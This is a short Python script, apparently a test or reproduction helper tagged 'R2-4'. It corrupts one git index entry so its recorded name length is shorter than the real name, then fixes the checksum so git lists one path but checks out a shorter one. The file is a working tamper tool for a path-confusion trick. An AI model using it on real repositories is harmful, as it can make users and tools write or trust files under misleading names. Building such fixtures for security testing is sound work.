"""Rewrites one entry of a git index so that its recorded name length says less than its name:
`evil_index.py INDEX NAME LENGTH` (git lists one name and checks out a shorter one; R2-4)."""

import hashlib
import struct
import sys

index, name, length = sys.argv[1], sys.argv[2].encode(), int(sys.argv[3])
with open(index, "rb") as f:
    data = bytearray(f.read())
at = data.find(name)
flags = struct.unpack(">H", data[at - 2 : at])[0]
data[at - 2 : at] = struct.pack(">H", (flags & 0xF000) | length)
body = bytes(data[:-20])
with open(index, "wb") as f:
    f.write(body + hashlib.sha1(body).digest())
